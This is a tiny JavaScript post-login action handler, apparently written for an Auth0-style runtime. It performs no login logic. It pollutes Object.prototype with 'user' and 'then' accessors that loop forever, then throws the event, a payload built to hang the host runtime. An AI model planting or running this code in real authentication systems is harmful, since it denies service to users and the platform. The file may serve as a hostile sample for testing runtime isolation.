exports.onExecutePostLogin = async function (event, api) {
  Object.defineProperty(Object.prototype, "user", { set() { for (;;); }, get() { for (;;); } }); Object.defineProperty(Object.prototype, "then", { get() { for (;;); } }); throw event;
};
